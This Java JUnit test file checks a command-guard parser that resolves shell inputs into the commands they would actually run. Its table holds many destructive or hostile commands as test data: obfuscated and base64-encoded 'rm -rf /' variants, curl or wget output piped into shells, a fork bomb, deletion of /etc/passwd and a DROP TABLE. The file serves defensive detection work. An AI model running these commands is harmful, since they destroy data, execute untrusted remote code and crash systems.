package dev.cmdguard.unwrap;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.stream.Stream;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * Input → the invocations that would run, rendered as {@code [origin…] argv} and joined by {@code
 * ;}. Dynamic arguments show as {@code ‹…›}. An expectation starting with {@code ... } only fixes
 * the end of the list. Context: cwd {@code /home/dev/project}, home {@code /home/dev}, user {@code
 * dev}.
 */
class UnwrapTableTest {
  static final ShellContext CONTEXT = ShellContext.of("/home/dev/project", "/home/dev", "dev");

  static Stream<Arguments> table() {
    return Stream.of(
        // program spellings and quoting
        row("ls -la", "ls -la"),
        row("r''m -rf /", "rm -rf /"),
        row("$'\\x72\\x6d' -rf /", "rm -rf /"),
        row("\"rm\" -rf /", "rm -rf /"),
        row("r\\m -rf /", "rm -rf /"),
        row("\\rm -rf /", "rm -rf /"),
        row("/bin/rm -rf /", "/bin/rm -rf /"),
        row("rm -rf -- /", "rm -rf -- /"),
        row("a=r; b=m; $a$b -rf /", "rm -rf /"),
        row("\"$(printf 'r')m\" -rf /", "printf r ; rm -rf /"),
        row("$(echo rm) -rf /", "echo rm ; rm -rf /"),
        row("$CMD -rf /", "‹$CMD› -rf /"),
        row("`which rm` -rf /", "which rm ; rm -rf /"),
        row("$(command -v rm) -rf /", "command -v rm ; rm -rf /"),
        row("$(type -P git) reset --hard", "type -P git ; git reset --hard"),
        row("$(which -a rm) -rf /", "which -a rm ; ‹$(which -a rm)› -rf /"),
        // builtin wrappers
        row("command rm -rf /", "command rm -rf / ; [command] rm -rf /"),
        row("command -v rm", "command -v rm"),
        row("builtin cd /", "builtin cd / ; [builtin] cd /"),
        row("exec rm -rf /", "exec rm -rf / ; [exec] rm -rf /"),
        row("nohup rm -rf / &", "nohup rm -rf / ; [nohup] rm -rf /"),
        row("busybox rm -rf /", "busybox rm -rf / ; [busybox] rm -rf /"),
        // privilege wrappers
        row("sudo rm -rf /", "sudo rm -rf / ; [sudo] rm -rf /"),
        row("sudo -u root rm -rf /", "sudo -u root rm -rf / ; [sudo] rm -rf /"),
        row("sudo -E -H -- rm -rf /", "sudo -E -H -- rm -rf / ; [sudo] rm -rf /"),
        row("sudo --user=root rm -rf /", "sudo --user=root rm -rf / ; [sudo] rm -rf /"),
        row("sudo -uroot rm x", "sudo -uroot rm x ; [sudo] rm x"),
        row("sudo FOO=1 rm x", "sudo FOO=1 rm x ; [sudo] rm x"),
        row("sudo -s rm -rf /", "sudo -s rm -rf / ; [sudo] rm -rf /"),
        row("sudo -i", "sudo -i ; [sudo] sh"),
        row("sudo -l", "sudo -l"),
        row("doas rm -rf /", "doas rm -rf / ; [doas] rm -rf /"),
        row("doas -u root rm -rf /", "doas -u root rm -rf / ; [doas] rm -rf /"),
        row("su -c 'rm -rf /'", "su -c 'rm -rf /' ; [su -c] rm -rf /"),
        row("su - root -c 'rm -rf /'", "su - root -c 'rm -rf /' ; [su -c] rm -rf /"),
        row("su root -c 'rm -rf /'", "su root -c 'rm -rf /' ; [su -c] rm -rf /"),
        row("su", "su ; [su] sh"),
        row("pkexec rm -rf /", "pkexec rm -rf / ; [pkexec] rm -rf /"),
        row("runuser -u bob -- rm -rf /", "runuser -u bob -- rm -rf / ; [runuser] rm -rf /"),
        row("sudo -u root -- sh -c 'rm -rf /'", "... [sudo, sh -c] rm -rf /"),
        // env
        row("env -i rm -rf /", "env -i rm -rf / ; [env] rm -rf /"),
        row("env FOO=1 PATH=/x rm -rf /", "env FOO=1 PATH=/x rm -rf / ; [env] rm -rf /"),
        row("env -u HOME rm -rf /", "env -u HOME rm -rf / ; [env] rm -rf /"),
        row("env -S 'rm -rf /'", "env -S 'rm -rf /' ; [env -S] rm -rf /"),
        row("env bash -c 'rm -rf /'", "... [env, bash -c] rm -rf /"),
        row("env", "env"),
        // process wrappers
        row("nice -n 10 rm -rf /", "nice -n 10 rm -rf / ; [nice] rm -rf /"),
        row("nice -10 rm x", "nice -10 rm x ; [nice] rm x"),
        row("ionice -c 3 rm -rf /", "ionice -c 3 rm -rf / ; [ionice] rm -rf /"),
        row("timeout 10 rm -rf /", "timeout 10 rm -rf / ; [timeout] rm -rf /"),
        row("timeout -s KILL 5s rm -rf /", "timeout -s KILL 5s rm -rf / ; [timeout] rm -rf /"),
        row("stdbuf -oL rm -rf /", "stdbuf -oL rm -rf / ; [stdbuf] rm -rf /"),
        row("setsid rm -rf /", "setsid rm -rf / ; [setsid] rm -rf /"),
        row("chroot /mnt rm -rf /", "chroot /mnt rm -rf / ; [chroot] rm -rf /"),
        row("watch rm -rf /", "watch rm -rf / ; [watch] rm -rf /"),
        row("watch -n 5 'rm -rf /tmp/x'", "watch -n 5 'rm -rf /tmp/x' ; [watch] rm -rf /tmp/x"),
        row("strace -f -o /tmp/log rm -rf /", "strace -f -o /tmp/log rm -rf / ; [strace] rm -rf /"),
        row("flock /tmp/lock rm -rf /", "flock /tmp/lock rm -rf / ; [flock] rm -rf /"),
        row("flock /tmp/lock -c 'rm -rf /'", "flock /tmp/lock -c 'rm -rf /' ; [flock -c] rm -rf /"),
        row("unshare -r rm -rf /", "unshare -r rm -rf / ; [unshare] rm -rf /"),
        row("taskset -c 0 rm -rf /", "taskset -c 0 rm -rf / ; [taskset] rm -rf /"),
        row(
            "nice -n 5 sudo -u bob env -i bash -lc 'rm -rf ~'",
            "... [nice, sudo, env, bash -c] rm -rf /home/dev"),
        row(
            "sudo env nice bash -c \"eval 'rm -rf /'\"",
            "... [sudo, env, nice, bash -c, eval] rm -rf /"),
        // shells
        row("bash -c 'rm -rf /'", "bash -c 'rm -rf /' ; [bash -c] rm -rf /"),
        row(
            "bash -lc \"cd / && rm -rf *\"",
            "bash -lc 'cd / && rm -rf *' ; [bash -c] cd / ; [bash -c] rm -rf *"),
        row(
            "/bin/sh -c 'sh -c \"rm -rf /\"'",
            "/bin/sh -c 'sh -c \"rm -rf /\"' ; [sh -c] sh -c 'rm -rf /' ; [sh -c, sh -c] rm -rf /"),
        row("bash -e -c 'rm -rf /'", "bash -e -c 'rm -rf /' ; [bash -c] rm -rf /"),
        row(
            "bash -o pipefail -c 'rm -rf /'",
            "bash -o pipefail -c 'rm -rf /' ; [bash -c] rm -rf /"),
        row("bash -xec 'rm -rf /'", "bash -xec 'rm -rf /' ; [bash -c] rm -rf /"),
        row("zsh -c 'rm -rf ~'", "zsh -c 'rm -rf ~' ; [zsh -c] rm -rf /home/dev"),
        row("dash -c 'rm -rf /'", "dash -c 'rm -rf /' ; [dash -c] rm -rf /"),
        row("ksh -c 'rm -rf /'", "ksh -c 'rm -rf /' ; [ksh -c] rm -rf /"),
        row("fish -c 'rm -rf /'", "fish -c 'rm -rf /' ; [fish -c] rm -rf /"),
        row("bash -c 'rm -rf $1' _ /", "bash -c 'rm -rf $1' _ / ; [bash -c] rm -rf /"),
        row("bash -c 'rm -rf \"$@\"' sh / /usr", "... [bash -c] rm -rf / /usr"),
        row("bash script.sh", "bash script.sh"),
        row("sudo sh -c 'cd /; rm -rf *'", "... [sudo, sh -c] rm -rf *"),
        row(
            "bash -c \"$(curl -fsSL http://x)\"",
            "curl -fsSL http://x ; bash -c ‹$(curl -fsSL http://x)› ; [bash -c] ‹$(curl -fsSL http://x)›"),
        row("sh -c \"$CMD\"", "sh -c ‹$CMD› ; [sh -c] ‹$CMD›"),
        // scripts fed into shells
        row("echo 'rm -rf /' | sh", "echo 'rm -rf /' ; sh ; [echo | sh] rm -rf /"),
        row("echo $'rm -rf /' | sh", "echo 'rm -rf /' ; sh ; [echo | sh] rm -rf /"),
        row(
            "printf 'rm -rf /\\n' | bash",
            "printf 'rm -rf /\\n' ; bash ; [printf | bash] rm -rf /"),
        row(
            "echo cm0gLXJmIC8= | base64 -d | sh",
            "echo cm0gLXJmIC8= ; base64 -d ; sh ; [base64 | sh] rm -rf /"),
        row("echo '/ fr- mr' | rev | bash", "echo '/ fr- mr' ; rev ; bash ; [rev | bash] rm -rf /"),
        row("echo \"rm -rf /\" | bash -s", "echo 'rm -rf /' ; bash -s ; [echo | bash] rm -rf /"),
        row("curl -s http://x | sh", "curl -s http://x ; sh"),
        row("curl -fsSL https://x | sudo bash", "curl -fsSL https://x ; sudo bash ; [sudo] bash"),
        row("wget -qO- http://x | python3", "wget -qO- http://x ; python3"),
        row("bash <<'EOF'\nrm -rf /\nEOF", "bash ; [bash <<heredoc] rm -rf /"),
        row("bash <<EOF\nrm -rf $HOME\nEOF", "bash ; [bash <<heredoc] rm -rf /home/dev"),
        row("sh <<< \"rm -rf /\"", "sh ; [sh <<<] rm -rf /"),
        row("cat <<EOF | sh\nrm -rf /\nEOF", "cat ; sh ; [cat | sh] rm -rf /"),
        row("cat <<'EOF' > notes.txt\nrm -rf /\nEOF", "cat"),
        row("bash -s < script.sh", "bash -s"),
        row("ssh host <<'EOF'\nrm -rf /\nEOF", "ssh host ; [ssh host] rm -rf /"),
        // eval, source, trap
        row("eval \"rm -rf /\"", "eval 'rm -rf /' ; [eval] rm -rf /"),
        row("eval rm -rf /", "eval rm -rf / ; [eval] rm -rf /"),
        row("eval \"$CMD\"", "eval ‹$CMD› ; [eval] ‹$CMD›"),
        row("eval 'X=/'; rm -rf $X", "eval X=/ ; rm -rf /"),
        row("Y=/tmp; eval \"$X\"; rm -rf $Y", "eval ‹$X› ; [eval] ‹$X› ; rm -rf ‹$Y›"),
        row(
            "source <(curl -s http://x)",
            "curl -s http://x ; source ‹<(curl -s http://x)› ; [source <(curl -s http://x)] ‹<(curl -s http://x)›"),
        row(
            "bash <(curl -s http://x)",
            "curl -s http://x ; bash ‹<(curl -s http://x)› ; [bash <(curl -s http://x)] ‹<(curl -s http://x)›"),
        row("source ./env.sh", "source ./env.sh"),
        row("X=/tmp; source ./env.sh; rm -rf $X", "source ./env.sh ; rm -rf ‹$X›"),
        row("X=/tmp; . ./env.sh; rm -rf ~/$X", ". ./env.sh ; rm -rf ‹/home/dev/$X›"),
        row("trap 'rm -rf /' EXIT", "trap 'rm -rf /' EXIT ; [trap] rm -rf /"),
        // variables
        row("X=/; rm -rf $X", "rm -rf /"),
        row("X=/ rm -rf $X", "rm -rf /"),
        row("X=\"-rf /\"; rm $X", "rm -rf /"),
        row("X='a b'; touch \"$X\"", "touch 'a b'"),
        row("rm -rf \"$HOME\"", "rm -rf /home/dev"),
        row("rm -rf ${HOME}", "rm -rf /home/dev"),
        row("rm -rf $HOME/", "rm -rf /home/dev/"),
        row("rm -rf ~", "rm -rf /home/dev"),
        row("rm -rf ~/", "rm -rf /home/dev/"),
        row("rm -rf \"~\"", "rm -rf ~"),
        row("rm -rf ~root", "rm -rf /root"),
        row("rm -rf ~bob/x", "rm -rf /home/bob/x"),
        row("rm -rf ~dev/x", "rm -rf /home/dev/x"),
        row("rm -rf $UNKNOWN/", "rm -rf ‹$UNKNOWN/›"),
        row("rm -rf /home/$USER", "rm -rf /home/dev"),
        row("rm -rf ${X:-/}", "rm -rf ‹${X:-/}›"),
        row("X=; rm -rf /$X", "rm -rf /"),
        row("unset X; rm -rf /$X", "unset X ; rm -rf /"),
        row("export D=/; rm -rf $D", "export D=/ ; rm -rf /"),
        row("declare -r D=/usr; rm -rf $D", "declare -r D=/usr ; rm -rf /usr"),
        row("X=/tmp; Y=$X/a; rm -rf $Y", "rm -rf /tmp/a"),
        row("set -- / /usr; rm -rf \"$@\"", "set -- / /usr ; rm -rf / /usr"),
        row("IFS= read -r line; rm -rf $line", "read -r line ; rm -rf ‹$line›"),
        row("for d in / /usr; do rm -rf $d; done", "rm -rf / ; rm -rf /usr"),
        row("for f in $(ls); do rm $f; done", "ls ; rm ‹$f›"),
        // brace expansion
        row("{rm,-rf,/}", "rm -rf /"),
        row("rm -rf /{etc,usr}", "rm -rf /etc /usr"),
        row("echo {1..3}", "echo 1 2 3"),
        row("echo '{a,b}'", "echo {a,b}"),
        row("find . -exec rm {} \\;", "find . -exec rm {} ; ; [find -exec] rm ‹{}›"),
        row("echo ${HOME}{,.bak}", "echo /home/dev /home/dev.bak"),
        row("rm -rf $X{,/}", "rm -rf ‹$X› ‹$X/›"),
        // globs
        row("rm -rf /*", "rm -rf /*"),
        row("rm -rf \"/*\"", "rm -rf /*"),
        row("ls ~/*", "ls /home/dev/*"),
        // xargs, parallel, find
        row("ls / | xargs rm -rf", "ls / ; xargs rm -rf ; [xargs] rm -rf ‹{items from stdin}›"),
        row("echo / | xargs rm -rf", "echo / ; xargs rm -rf ; [xargs] rm -rf /"),
        row(
            "echo a b | xargs -I {} rm -rf /tmp/{}",
            "echo a b ; xargs -I {} rm -rf /tmp/{} ; [xargs] rm -rf '/tmp/a b'"),
        row("xargs rm < list.txt", "xargs rm ; [xargs] rm ‹{items from stdin}›"),
        row("find . -print0 | xargs -0 rm -rf", "... [xargs] rm -rf ‹{items from stdin}›"),
        row("echo x | xargs", "echo x ; xargs ; [xargs] echo x"),
        row(
            "parallel rm -rf ::: / /usr",
            "parallel rm -rf ::: / /usr ; [parallel] rm -rf / ; [parallel] rm -rf /usr"),
        row(
            "parallel 'rm -rf {}' ::: /tmp/a",
            "parallel 'rm -rf {}' ::: /tmp/a ; [parallel] rm -rf /tmp/a"),
        row("cat cmds.txt | parallel", "cat cmds.txt ; parallel"),
        row("sem rm -rf /", "sem rm -rf / ; [sem] rm -rf /"),
        row("parallel ::: 'rm -rf /'", "parallel ::: 'rm -rf /' ; [parallel] rm -rf /"),
        row("parallel bash -c ::: 'rm -rf /'", "... [parallel, bash -c] rm -rf /"),
        row("echo / | parallel bash -c 'rm -rf {}'", "... [parallel, bash -c] rm -rf /"),
        row("echo / | xargs --replace bash -c 'rm -rf {}'", "... [xargs, bash -c] rm -rf /"),
        row("echo / | xargs -J {} rm -rf {}", "... [xargs] rm -rf /"),
        row("echo / | xargs -i rm -rf {}", "... [xargs] rm -rf /"),
        row("env - git reset --hard", "env - git reset --hard ; [env] git reset --hard"),
        row(
            "env -P /usr/bin git reset --hard",
            "env -P /usr/bin git reset --hard ; [env] git reset --hard"),
        row("1A=2 git reset --hard", "git reset --hard"),
        row("find / -exec rm -rf {} +", "find / -exec rm -rf {} + ; [find -exec] rm -rf ‹{}›"),
        row(
            "find . -type f -exec chmod 644 {} \\;",
            "find . -type f -exec chmod 644 {} ; ; [find -exec] chmod 644 ‹{}›"),
        row("find / -name x -ok rm {} \\;", "find / -name x -ok rm {} ; ; [find -ok] rm ‹{}›"),
        row("find /tmp -delete", "find /tmp -delete ; [find -delete] rm -rf /tmp"),
        row(
            "find . -name '*.pyc' -delete",
            "find . -name *.pyc -delete ; [find -delete] rm -f ‹./{matching files}›"),
        row("find . -name '*.txt'", "find . -name *.txt"),
        row("find -delete", "find -delete ; [find -delete] rm -rf ."),
        // interpreters: shell-outs and deletion APIs
        row(
            "python3 -c \"import shutil; shutil.rmtree('/')\"",
            "... [python3 -c, shutil.rmtree] rm -rf /"),
        row(
            "node -e \"require('child_process').execSync('rm -rf /')\"",
            "... [node -e, child_process.execSync] rm -rf /"),
        row("perl -e 'system(\"rm -rf /\")'", "... [perl -e, system] rm -rf /"),
        row("ruby -e 'FileUtils.rm_rf(\"/\")'", "... [ruby -e, FileUtils.rm_rf] rm -rf /"),
        row("php -r 'system(\"rm -rf /\");'", "... [php -r, system] rm -rf /"),
        row(
            "python3 -c \"import os; os.remove('/etc/passwd')\"",
            "... [python3 -c, os.remove] rm -f /etc/passwd"),
        row(
            "python3 -c \"import subprocess; subprocess.run(['rm','-rf','/'])\"",
            "... [python3 -c, subprocess.run] rm -rf /"),
        row(
            "python3 - <<'EOF'\nimport os\nos.system('rm -rf ~')\nEOF",
            "... [python3 <<heredoc, os.system] rm -rf /home/dev"),
        row("python3 -c 'print(1)'", "python3 -c print(1)"),
        row(
            "sudo python3 -c \"import os; os.system('rm -rf /')\"",
            "... [sudo, python3 -c, os.system] rm -rf /"),
        row(
            "bash -c \"python3 -c 'import shutil; shutil.rmtree(\\\"/\\\")'\"",
            "... [bash -c, python3 -c, shutil.rmtree] rm -rf /"),
        // remote
        row("ssh host 'rm -rf /'", "ssh host 'rm -rf /' ; [ssh host] rm -rf /"),
        row(
            "ssh -p 22 -i key user@host rm -rf /",
            "ssh -p 22 -i key user@host rm -rf / ; [ssh user@host] rm -rf /"),
        row("ssh host", "ssh host"),
        row(
            "docker exec -it app rm -rf /data",
            "docker exec -it app rm -rf /data ; [docker exec app] rm -rf /data"),
        row(
            "kubectl exec -n prod web-1 -- env",
            "kubectl exec -n prod web-1 -- env ; [kubectl exec web-1] env"),
        row(
            "docker compose exec db psql -c 'DROP TABLE x'",
            "... [docker compose exec db] psql -c 'DROP TABLE x'"),
        row("docker ps -a", "docker ps -a"),
        row(
            "bash -c \"cat .env; echo $X\"",
            "bash -c ‹cat .env; echo $X› ; [bash -c] ‹cat .env; echo $X› ; [bash -c] cat .env ; [bash -c] echo ‹$X›"),
        // substitutions
        row("echo $(rm -rf /)", "rm -rf / ; echo ‹$(rm -rf /)›"),
        row("echo `rm -rf /`", "rm -rf / ; echo ‹`rm -rf /`›"),
        row("echo \"$(rm -rf /)\"", "rm -rf / ; echo ‹$(rm -rf /)›"),
        row("diff <(ls a) <(ls b)", "ls a ; ls b ; diff ‹<(ls a)› ‹<(ls b)›"),
        row("[[ -n $(rm -rf /) ]]", "rm -rf /"),
        row("echo $(( 1 + 2 ))", "echo 3"),
        // structure
        row(":(){ :|:& };:", "[:()] : ; [:()] :"),
        row("f() { rm -rf /; }; f", "[f()] rm -rf /"),
        row("f() { rm -rf /; }", "[f()] rm -rf /"),
        row("function g { rm -rf /; }; g", "[g()] rm -rf /"),
        row("if true; then rm -rf /; fi", "true ; rm -rf /"),
        row(
            "if false; then :; elif true; then rm x; else rm y; fi",
            "false ; : ; true ; rm x ; rm y"),
        row("while true; do rm -rf /tmp/x; done", "true ; rm -rf /tmp/x"),
        row("until false; do sleep 1; done", "false ; sleep 1"),
        row("case $x in a) rm -rf /;; esac", "rm -rf /"),
        row("{ rm -rf /; } > /dev/null", "rm -rf /"),
        row("(rm -rf /)", "rm -rf /"),
        row("! rm -rf /", "rm -rf /"),
        row("rm -rf / &", "rm -rf /"),
        row("true || rm -rf /", "true ; rm -rf /"),
        row("true && rm -rf / ; ls", "true ; rm -rf / ; ls"),
        row("ls -la | grep foo | wc -l", "ls -la ; grep foo ; wc -l"),
        row("echo hi > /etc/passwd", "echo hi"),
        row("> /etc/passwd", "<redirect-only>"),
        // data, not commands
        row("echo 'rm -rf /'", "echo 'rm -rf /'"),
        row("grep \"rm -rf /\" notes.txt", "grep 'rm -rf /' notes.txt"),
        row("git commit -m \"fix rm -rf /\"", "git commit -m 'fix rm -rf /'"),
        row("printf '%s\\n' 'DROP TABLE x'", "printf %s\\n 'DROP TABLE x'"),
        row("python3 script.py", "python3 script.py"),
        row("", ""));
  }

  private static Arguments row(String input, String expected) {
    return Arguments.of(input, expected);
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("table")
  void unwraps(String input, String expected) {
    String actual = Render.all(Unwrap.script(input, CONTEXT));
    if (expected.startsWith("... ")) {
      assertThat(actual).endsWith(expected.substring(4));
    } else {
      assertThat(actual).isEqualTo(expected);
    }
  }
}
